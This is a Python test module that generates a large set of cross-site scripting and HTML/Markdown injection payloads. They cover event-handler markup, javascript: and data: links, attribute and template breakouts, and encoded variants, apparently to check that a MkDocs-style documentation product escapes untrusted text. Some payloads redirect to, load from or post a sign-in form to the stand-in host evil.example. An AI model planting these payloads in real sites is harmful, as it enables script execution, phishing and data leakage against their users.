"""What somebody may try to get into a page: published lists, a systematic part, and our own."""

from __future__ import annotations

import html
import itertools
import json
import random
from functools import cache
from pathlib import Path
from urllib.parse import quote

LISTS = Path(__file__).with_name("payloads.json")


@cache
def published() -> tuple[str, ...]:
    """Return the payloads of the published lists; ``payloads.json`` names source and licence."""
    groups = json.loads(LISTS.read_text("utf-8"))["groups"]
    return tuple(payload for group in groups for payload in group["payloads"])


def sample(count: int, seed: int = 3) -> tuple[str, ...]:
    """Return some of the published payloads, always the same ones."""
    return tuple(random.Random(seed).sample(published(), count))


HANDLED = {
    "img": ("src=x", ("error", "mouseover", "click")),
    "svg": ("", ("load", "click", "focusin")),
    "body": ("", ("load", "pageshow", "hashchange", "focus")),
    "input": ("autofocus", ("focus", "blur", "input", "change")),
    "details": ("open", ("toggle", "click")),
    "video": ("src=x", ("error", "loadstart", "mouseenter")),
    "audio": ("src=x", ("error", "loadstart")),
    "marquee": ("", ("start", "finish", "bounce")),
    "a": ("href=#x tabindex=1", ("click", "focus", "mouseover", "pointerenter", "auxclick")),
    "div": ("style=animation:x contenteditable", ("mouseover", "animationstart", "paste", "wheel")),
    "iframe": ("src=about:blank", ("load",)),
    "object": ("data=x", ("error",)),
    "select": ("autofocus", ("focus", "change")),
    "button": ("type=button popovertarget=x", ("click", "pointerdown", "keydown")),
}
"""Elements with what makes an event come by itself, and events that run something."""


def _markup() -> list[str]:
    """Elements × events, once with a slash for the blank, in capitals or with the quotes open."""
    forms = (
        "<{tag} {how} on{event}=alert(1)>",
        "<{tag}/{how}/on{event}=alert`1`>",
        '"><{TAG} {how} ON{EVENT}="prompt(1)">',
        "<{tag} {how} on{event}=&#97;lert(1)//",
    )
    return [
        form.format(tag=tag, how=how, event=event, TAG=tag.upper(), EVENT=event.upper())
        for tag, (how, events) in HANDLED.items()
        for event in events
        for form in forms
    ]


SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript&#58;alert(1)",
    "&amp;#106;avascript:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "ja\u200bvascript:alert(1)",
    "\ufeffjavascript:alert(1)",
)
"""Addresses that run something or lead to another host behind the reader's back."""
LINKS = (
    "[text]({})",
    "[text](<{}>)",
    '[text]({} "title")',
    "![text]({})",
    "<{}>",
    "[text][ref]\n\n[ref]: {}",
    "[ref2]\n\n[ref2]: <{}> 'title'",
    "[![text]({})]({})",
)
"""What Markdown has for a link."""


def _addresses() -> list[str]:
    return [link.replace("{}", url) for link, url in itertools.product(LINKS, SCHEMES)]


BREAKERS = (
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><button>Sign in</button></form>",
)
"""What gets out of an attribute, a comment, an element or a template."""
ENCODINGS = (
    str,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    quote,
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    lambda text: "".join(f"&#x{ord(c):06X}" for c in text),
    lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\<").replace("[", "\\["),
    lambda text: "`" + text + "``",
    lambda text: "**" + text + "** _" + text + "_",
)
"""Ways to write the same, one of which a converter may turn back at the wrong moment."""


@cache
def systematic() -> tuple[str, ...]:
    """Return elements × events × forms, addresses × links, and breakers × encodings."""
    encoded = [encode(text) for text, encode in itertools.product(BREAKERS, ENCODINGS)]
    return tuple(dict.fromkeys([*_markup(), *_addresses(), *encoded]))


@cache
def every() -> tuple[str, ...]:
    """Return all payloads, each once."""
    return tuple(dict.fromkeys([*published(), *systematic(), *GOLDEN_TEXTS]))


GOLDEN_TEXTS = (
    # Addresses that a template might write as they are: evidence, mailbox, place of a record.
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><img/src=x/onerror=alert(1)>",
    "http://javascript:alert(1)@evil.example/",
    "https://user:pass@evil.example/%0aSet-Cookie:a=b",
    'desk@example.org"onclick="alert(1)',
    "mailto:desk@example.org?body=<script>alert(1)</script>",
    '+44 20" onclick=alert(1) x="',
    # Hosts without a scheme, which a cleaner may take for places of the site.
    '<a href="// evil.example">a</a> <a href="/\\evil.example">b</a>',
    # Ids between which the linker cuts a text.
    "EXA-010<img src=x onerror=alert(1)>EXA-010",
    '<a title="EXA-010" onclick="alert(1)">EXA-010</a>',
    'EXA-010" onmouseover="alert(1)',
    "EXA-010]]><script>alert(1)</script>",
    "party:<img src=x onerror=alert(1)>",
    "KPI-EXA-010-1&lt;img src=x onerror=alert(1)&gt;",
    # What formatting with str.format, %, Jinja or Markup might take for its own.
    "{heading}{anchor}{html}{0.__class__}<b onclick=alert(1)>",
    "%(html)s%s<i onclick=alert(1)>",
    "{{ manual.policy|safe }}{% include 'macros.html' %}<u onclick=alert(1)>",
    "{# #}{%- raw -%}<s onclick=alert(1)>",
    # What Markdown keeps aside while it works.
    "\x02klzzwxh:0000\x03<img src=x onerror=alert(1)>",
    "\x02amp\x03lt;script\x02amp\x03gt;alert(1)",
    "wzxhzdk:0<script>alert(1)</script>wzxhzdk:1",
    # Units and periods that are put into words.
    "score_<img src=x onerror=alert(1)>_7",
    "score_1_<script>alert(1)</script>",
)
"""Texts for fields: what this product does with a text, and others do not."""

GOLDEN_MARKDOWN = (
    "# __config\n\n## __search\n\n## __drawer\n\n## __palette_0\n\n## __toc",
    "## _\n\n## ___\n\n## <script>alert(1)</script>\n\n## `<img src=x onerror=alert(1)>`",
    '## Heading {#x onclick="alert(1)"}\n\n## Other {: onclick=alert(1) id=__config }',
    "Text\n{: onclick=alert(1) style=position:fixed }",
    "[link](index.md){: onclick=alert(1) target=_blank }",
    "![](x.png){ onerror=alert(1) }",
    '*[HTML]: <img src=x onerror=alert(1)>\n*[EXA]: " onmouseover="alert(1)\n\nHTML and EXA',
    "Text[^1] and[^<script>]\n\n[^1]: <script>alert(1)</script>\n[^<script>]: alert(1)",
    "| <script>alert(1)</script> | b |\n| --- | :-: |\n| <img src=x onerror=alert(1)> | `<b>` |",
    "|a|b|\n|-|-|\n|[x](javascript:alert(1))|![y](javascript:alert(1))|",
    "Term <b onclick=alert(1)>\n:   <iframe src=javascript:alert(1)></iframe>",
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '!!! note" onclick="alert(1) "Title"\n    Text',
    '!!! danger onclick=alert(1) "x"\n    Text',
    '??? note "<svg onload=alert(1)>"\n    Text',
    '=== "<img src=x onerror=alert(1)>"\n    Text',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "``` {.python onclick=alert(1) #__config}\ntext\n```",
    '``` {.json #__config}\n{"base": "//evil.example", "search": "//evil.example/x.js"}\n```',
    "``` {.text .mermaid}\ngraph TD; A-->B\n```",
    '```"><script>alert(1)</script>\ntext\n```',
    '```py title="<img src=x onerror=alert(1)>" hl_lines="1"\nx = 1\n```',
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A call alert(1)\n```",
    "$$\\href{javascript:alert(1)}{x}$$ and \\(\\unicode{<img src=x onerror=alert(1)>}\\)",
    "--8<-- \"../mkdocs.yml\"\n\n{!../mkdocs.yml!}\n\n{% include '../mkdocs.yml' %}",
    "<div markdown=1 onclick=alert(1)>**text**</div>",
    "<script>\nalert(1)\n</script>\n\ntext",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<!-- <script>alert(1)</script> --> <!-- -- --!> <img src=x onerror=alert(1)> -->",
    "<?php alert(1) ?><![CDATA[<script>alert(1)</script>]]>",
    "<a\nhref='javascript:alert(1)'\n>click</a>",
    '<https://evil.example/"onclick=alert(1)>',
    '<mailto:x@y" onclick=alert(1)>',
    "<javascript:alert(1)> <x:alert(1)> <data:text/html,<script>alert(1)</script>>",
    "[a](<javascript:alert(1)> 'b') [c](  javascript:alert(1)  \"d\")",
    "[x]( javascript:alert(1))\n[x](java\nscript:alert(1))",
    "[a]: javascript:alert(1)\n[b]:\n    javascript:alert(1)\n    't'\n\n[a] [b] [c][a] ![d][b]",
    '[x](https://example.org "\\" onclick=alert(1) \\"")',
    "[x](https://example.org '\"><script>alert(1)</script>')",
    '[x](https://example.org"onmouseover=alert(1))',
    '[x](index.md#"><img src=x onerror=alert(1)>)',
    "[x](?q=<script>alert(1)</script>) [y](#<script>alert(1)</script>)",
    "![x](//evil.example/pixel.png) ![y](https://evil.example/p.png) ![z](\\\\evil.example\\p)",
    "![x][r]\n\n[r]: //evil.example/p.png",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '![" onerror="alert(1)](x.png) ![x](x.png" onerror="alert(1))',
    '[EXA-010](javascript:alert(1)) [<EXA-010>](EXA-010) [x](EXA-010"onclick=alert(1))',
    "<EXA-010 onclick=alert(1)> `EXA-010<script>alert(1)</script>`",
    "1. <script>alert(1)</script>\n   > <img src=x onerror=alert(1)>\n   > - [x](vbscript:a())",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\> \\[x\\](javascript:alert(1))",
    "\x02klzzwxh:0000\x03 \x02klzzwxh:0001\x03 <b> <i>",
    "`` <script>alert(1)</script> ` `</code><script>alert(1)</script>``",
    "```\n<script>alert(1)</script>\n\nA fence that is never closed",
    "~~~\n```\n<img src=x onerror=alert(1)>\n```",
    "```\ncode\n```x\n\n<img src=x onerror=alert(1)>\n\n```y",
    "````\n```\n\n<img src=x onerror=alert(1)>",
    "\\`<img src=x onerror=alert(1)>\\`",
    "` <img src=x onerror=alert(1)> ``",
    "`` <img src=x onerror=alert(1)> `",
    "`a\n\n<img src=x onerror=alert(1)>\n\n`",
    "- `a\n- <img src=x onerror=alert(1)>`",
    "[x](< javascript:alert(1)>) [y](<\tjavascript:alert(1)>) ![z](< //evil.example/p.png>)",
    "[x]: < javascript:alert(1)>\n[y]:\n  <javascript:alert(1)>\n\n[x] [y]",
    "[x\\]](javascript:alert(1)) [x[y]](javascript:alert(1)) [`]`](javascript:alert(1))",
    "[x](a(b)javascript:alert(1)) [x]\\(javascript:alert(1)) [x] (javascript:alert(1))",
    "> [a]: javascript:alert(1)\n\n- [b]: javascript:alert(1)\n\n[a] [b]",
    "![a [b]](https://evil.example/p.png) ![" + "x" * 600 + "](https://evil.example/p.png)",
    "<table><tr><td background=javascript:alert(1)></table>",
    "<x onclick=alert(1)>### heading</x>\n\n###### <x/onclick=alert(1)>",
    "Setext <img src=x onerror=alert(1)>\n===\n\nSetext <script>alert(1)</script>\n---",
    ":smile: ::script:: :material-account:{ onclick=alert(1) } :fontawesome-x<script>:",
    "++ctrl+<script>++ ==<mark onclick=alert(1)>== ~~<del>~~ ^^<ins>^^ {--<b>--}{++<i>++}",
)
"""Texts for the narrative and for hand-written pages, each for a construct that may be loose."""

_TITLES = (
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    '" onmouseover="alert(1)',
)


def golden_pages() -> dict[str, str]:
    """Return files below ``docs/`` whose header or first heading attacks the theme."""
    pages: dict[str, str] = {}
    for i, title in enumerate(_TITLES):
        quoted = json.dumps(title)
        pages[f"front-{i}.md"] = f"---\ntitle: {quoted}\ndescription: {quoted}\n---\nText.\n"
        pages[f"heading-{i}.md"] = f"# {title}\n\n## {title}\n\nText.\n"
        pages[f"setext-{i}.md"] = f"{title}\n=====\n\nText.\n"
        pages[f"multi-{i}.md"] = f"title: {title}\ndescription: {title}\n\nText.\n"
        pages[f"code-{i}.md"] = f"# `{title}`\n\nText.\n"
        pages[f"author-{i}.md"] = (
            f"---\nauthor: {quoted}\nauthors: [{quoted}]\nstatus: {quoted}\nicon: {quoted}\n"
            f"tags: [{quoted}]\ncanonical_url: {quoted}\nsubtitle: {quoted}\nrobots: {quoted}\n"
            f"hide: [{quoted}]\nsearch: {{boost: {quoted}}}\n---\n# Heading\n"
        )
    pages["template.md"] = "---\ntemplate: ../../mkdocs.yml\n---\nText.\n"
    pages["list-title.md"] = "---\ntitle: ['<img src=x onerror=alert(1)>']\n---\nText.\n"
    pages["map-title.md"] = "---\ntitle: {a: '<img src=x onerror=alert(1)>'}\n---\nText.\n"
    pages["tag-title.md"] = (
        "---\ntitle: !!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n---\nText.\n"
    )
    pages["no-title.md"] = "Text <img src=x onerror=alert(1)>.\n"
    return pages


GOLDEN_NAMES = (
    "<img src=x onerror=alert(1)>.md",
    "<svg onload=alert(1)>.md",
    "a'onmouseover='alert(1).md",
    'b"onmouseover="alert(1).md',
    "&lt;img src=x onerror=alert(1)&gt;.md",
    "javascript:alert(1).md",
    "{{ 7*7 }}<img src=x onerror=alert(1)>.md",
)
"""Names for files without a title of their own: MkDocs makes one of the name."""
